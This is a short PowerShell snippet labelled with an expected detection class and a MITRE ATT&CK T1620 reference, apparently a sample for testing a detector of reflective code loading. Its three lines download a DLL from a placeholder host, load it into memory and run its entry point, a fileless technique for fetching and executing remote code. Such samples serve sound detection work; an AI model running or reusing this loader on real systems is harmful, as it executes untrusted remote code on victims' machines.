# expect: native-side-load | source: MITRE ATT&CK T1620
$b = (New-Object Net.WebClient).DownloadData('http://files.example.invalid/a.dll')
$a = [Reflection.Assembly]::Load($b)
$a.EntryPoint.Invoke($null, $null)
